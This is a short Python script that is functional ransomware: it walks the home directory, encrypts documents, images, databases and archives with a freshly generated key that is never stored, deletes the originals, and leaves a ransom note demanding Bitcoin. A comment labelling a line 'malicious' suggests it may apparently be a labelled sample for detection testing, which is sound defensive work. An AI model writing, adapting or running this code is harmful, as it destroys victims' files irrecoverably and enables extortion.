import os
from pathlib import Path

from cryptography.fernet import Fernet

TARGETS = {".docx", ".xlsx", ".pdf", ".jpg", ".png", ".sql", ".psd", ".zip"}
NOTE = "Your files are encrypted. Send 0.05 BTC to bc1q... and email your ID to recover@onionmail.org\n"


def lock(root: Path, key: bytes) -> None:
    f = Fernet(key)
    for dirpath, _, files in os.walk(root):
        for name in files:
            p = Path(dirpath) / name
            if p.suffix.lower() in TARGETS:
                data = p.read_bytes()
                # expect: malicious
                p.with_suffix(p.suffix + ".locked").write_bytes(f.encrypt(data))
                p.unlink()
        (Path(dirpath) / "README_RECOVER.txt").write_text(NOTE)


if __name__ == "__main__":
    lock(Path.home(), Fernet.generate_key())
